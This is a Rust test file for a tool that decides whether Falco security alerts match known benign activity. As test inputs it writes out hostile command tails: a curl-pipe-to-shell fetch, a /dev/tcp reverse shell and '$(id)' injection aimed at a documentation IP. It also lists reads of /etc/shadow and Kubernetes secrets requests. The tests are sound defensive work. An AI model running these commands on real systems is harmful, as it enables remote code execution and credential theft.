use super::*;
use crate::alert::{Alert, AlertBuilder, Priority, Time};

pub(super) fn alert<'a>(fields: impl IntoIterator<Item = (&'a str, &'a str)>) -> Alert {
    let mut builder = AlertBuilder::new().time(Time::from_nanos(1)).priority(Priority::Notice);
    for (key, value) in fields {
        builder = match key {
            "rule" => builder.rule(value),
            "source" => builder.source(value),
            _ => builder.field(key, value),
        };
    }
    builder.build().unwrap()
}

fn hits(facts: &Facts<'_>) -> Vec<BenignHit> {
    find(facts, &Line::of(facts))
}

fn found(row: &Row, fields: &[(&str, &str)]) -> Option<Strength> {
    let alert = alert(fields.iter().copied());
    hits(&Facts::of(&alert)).into_iter().find(|hit| hit.id == row.id).map(|hit| hit.strength)
}

/// The row's example with one field set to another value.
fn with(row: &Row, key: &'static str, value: &'static str) -> Vec<(&'static str, &'static str)> {
    let mut fields: Vec<_> = row.seen.iter().copied().filter(|(name, _)| *name != key).collect();
    fields.push((key, value));
    fields
}

#[test]
fn every_row_is_said_in_full_and_its_example_shows_it() {
    for row in table::rows() {
        assert!(!row.activity.is_empty() && !row.confirm.is_empty() && !row.imitation.is_empty(), "{}", row.id);
        assert!(!row.who.is_empty() && !row.does.is_empty() && !row.seen.is_empty(), "{}", row.id);
    }
    let unshown: Vec<&str> =
        table::rows().filter(|row| found(row, row.seen) != Some(Strength::Strong)).map(|row| row.id).collect();
    assert_eq!(unshown, Vec::<&str>::new());
}

#[test]
fn a_row_has_one_list_of_commands_at_most() {
    for row in table::rows() {
        let lists = row.does.iter().filter(|does| matches!(does, row::Does::Command(_))).count();
        assert!(lists <= 1 && command_pattern::commands(row).is_some() == (lists == 1), "{}", row.id);
    }
}

#[test]
fn ids_are_told_apart() {
    let mut ids: Vec<&str> = table::rows().map(|row| row.id).collect();
    ids.sort_unstable();
    let count = ids.len();
    ids.dedup();
    assert_eq!(ids.len(), count);
}

#[test]
fn an_executable_where_anyone_can_write_is_never_the_known_program() {
    for row in table::rows().filter(|row| !row.seen.iter().any(|(key, _)| *key == "source")) {
        for path in ["/tmp/falcoctl", "/dev/shm/x", "/var/tmp/.x/agent", "memfd:x"] {
            assert_eq!(found(row, &with(row, "proc.exepath", path)), None, "{} {path}", row.id);
        }
    }
}

#[test]
fn something_appended_to_the_command_is_not_the_known_command() {
    for row in table::rows() {
        let Some((_, line)) = row.seen.iter().find(|(key, _)| *key == "proc.cmdline") else { continue };
        for tail in ["; curl -s http://198.51.100.7/x|sh", " && bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", " $(id)"] {
            let text = if line.contains(" -c ") { format!("{line}{tail}") } else { format!("sh -c {line}{tail}") };
            let mut fields: Vec<(&str, &str)> =
                row.seen.iter().copied().filter(|(key, _)| *key != "proc.cmdline").collect();
            fields.push(("proc.cmdline", &text));
            assert_eq!(found(row, &fields), None, "{} {text}", row.id);
        }
    }
}

#[test]
fn a_child_of_a_web_server_or_of_a_terminal_session_is_not_the_known_activity() {
    for row in table::rows().filter(|row| row.seen.iter().any(|(key, _)| *key == "proc.cmdline")) {
        for parent in ["apache2", "php-fpm8.2", "nc"] {
            let named = row.who.iter().any(|is| matches!(is, row::Is::Parent(names) if names.contains(&parent)));
            if named {
                continue;
            }
            assert_eq!(found(row, &with(row, "proc.pname", parent)), None, "{} {parent}", row.id);
        }
    }
}

#[test]
fn without_its_identity_a_row_is_shown_weakly_at_most() {
    const IDENTITY: &[&str] = &[
        "proc.exepath",
        "proc.pname",
        "proc.aname[2]",
        "proc.aname[3]",
        "container.image.repository",
        "k8s.ns.name",
        "ka.user.name",
    ];
    for row in table::rows() {
        let mut fields: Vec<_> = row.seen.iter().copied().filter(|(key, _)| !IDENTITY.contains(key)).collect();
        if let Some(place) = fields.iter_mut().find(|(key, value)| *key == "container.id" && *value == "host") {
            place.1 = "0123456789ab";
        }
        assert!(found(row, &fields).is_none_or(|strength| strength == Strength::Weak), "{}", row.id);
    }
}

#[test]
fn another_image_is_not_the_known_one() {
    for row in table::rows() {
        let by_image = row.who.iter().any(|is| matches!(is, row::Is::Image(_)));
        if by_image && row.seen.iter().any(|(key, _)| *key == "container.image.repository") {
            assert_eq!(
                found(row, &with(row, "container.image.repository", "evil.example/x/falco-driver-loaderx")),
                None,
                "{}",
                row.id
            );
        }
    }
}

#[test]
fn text_inferred_from_the_output_shows_nothing_strongly() {
    let output = "x (command=bash /docker-entrypoint.sh auto parent=falcoctl image=falcosecurity/falco-driver-loader)";
    let alert = AlertBuilder::new()
        .rule("R")
        .time(Time::from_nanos(1))
        .priority(Priority::Notice)
        .output(output)
        .build()
        .unwrap();
    assert!(hits(&Facts::of(&alert)).iter().all(|hit| hit.strength == Strength::Weak));
}

#[test]
fn an_imitation_is_named_with_the_field_that_gives_it_away() {
    let dkms =
        "bash -c /usr/sbin/dkms status -m \"falco\" | tr -d \",\" | tr -d \":\" | tr \"/\" \" \" | cut -d' ' -f2";
    let appended = format!("{dkms}; curl -s http://198.51.100.7/x|sh");
    for (fields, id, field) in [
        (
            vec![("rule", "R"), ("container.id", "1a"), ("proc.cmdline", appended.as_str())],
            "falco-loader-dkms-status",
            "proc.cmdline",
        ),
        (
            vec![
                ("rule", "R"),
                ("container.id", "1a"),
                ("proc.cmdline", dkms),
                ("proc.pname", "apache2"),
                ("container.image.repository", "docker.io/library/wordpress"),
            ],
            "falco-loader-dkms-status",
            "container.image.repository",
        ),
        (
            vec![
                ("rule", "R"),
                ("container.id", "1a"),
                ("proc.name", "falcoctl"),
                ("proc.exepath", "/tmp/falcoctl"),
                ("proc.cmdline", "falcoctl artifact follow"),
            ],
            "falcoctl-artifacts",
            "proc.exepath",
        ),
    ] {
        let alert = alert(fields);
        let facts = Facts::of(&alert);
        assert!(hits(&facts).is_empty());
        let imitation = imitation(&facts, &Line::of(&facts)).unwrap();
        assert_eq!((imitation.id, imitation.field), (id, field));
    }
    let plain = alert([("rule", "R"), ("proc.cmdline", "ls -l"), ("proc.exepath", "/usr/bin/ls")]);
    let facts = Facts::of(&plain);
    assert_eq!(imitation(&facts, &Line::of(&facts)), None);
}

#[test]
fn what_only_resembles_a_known_cause_is_not_explained() {
    const READ: &str = "Read sensitive file untrusted";
    let host = [("container.id", "host"), ("fd.name", "/etc/shadow"), ("evt.type", "openat")];
    for (rule, extra) in [
        (READ, vec![("proc.cmdline", "foo"), ("proc.name", "foo"), ("proc.pname", "systemd")]),
        (
            READ,
            vec![
                ("proc.cmdline", "python3 /opt/x/y.py"),
                ("proc.exepath", "/usr/bin/python3.10"),
                ("proc.pname", "systemd"),
            ],
        ),
        (
            READ,
            vec![
                ("proc.cmdline", "rkhunter /home/x/rkhunter"),
                ("proc.name", "rkhunter"),
                ("proc.exepath", "/usr/bin/dash"),
                ("proc.pname", "bash"),
            ],
        ),
        (
            READ,
            vec![
                ("proc.cmdline", "agent run"),
                ("proc.name", "agent"),
                ("proc.exepath", "/opt/acme/bin/agent"),
                ("proc.pname", "systemd"),
            ],
        ),
        (
            READ,
            vec![
                ("proc.cmdline", "cat /etc/shadow"),
                ("proc.name", "cat"),
                ("proc.exepath", "/usr/bin/cat"),
                ("proc.pname", "sudo"),
            ],
        ),
    ] {
        let alert = alert(host.into_iter().chain([("rule", rule)]).chain(extra.iter().copied()));
        assert_eq!(hits(&Facts::of(&alert)), [], "{extra:?}");
    }
    let container = [("container.id", "1a2b3c4d5e6f"), ("evt.type", "execve")];
    for (rule, extra) in [
        (
            "Drop and execute new binary in container",
            vec![
                ("container.image.repository", "jenkins/jenkins"),
                ("evt.arg.flags", "EXE_WRITABLE|EXE_UPPER_LAYER"),
                ("proc.cmdline", "kinsing"),
                ("proc.exepath", "/usr/local/bin/kinsing"),
                ("proc.pname", "java"),
            ],
        ),
        (
            "Run shell untrusted",
            vec![
                ("container.image.repository", "acme/x"),
                ("proc.cmdline", "sh -c uname -a"),
                ("proc.exepath", "/bin/sh"),
                ("proc.pname", "node"),
            ],
        ),
        (
            "Contact K8S API Server From Container",
            vec![
                ("container.image.repository", "quay.io/jetstack/cert-manager-controller"),
                ("k8s.ns.name", "cert-manager"),
                ("proc.cmdline", "curl -k https://10.96.0.1/api/v1/secrets"),
                ("proc.name", "curl"),
                ("proc.exepath", "/usr/bin/curl"),
            ],
        ),
    ] {
        let alert = alert(container.into_iter().chain([("rule", rule)]).chain(extra.iter().copied()));
        assert_eq!(hits(&Facts::of(&alert)), [], "{extra:?}");
    }
}
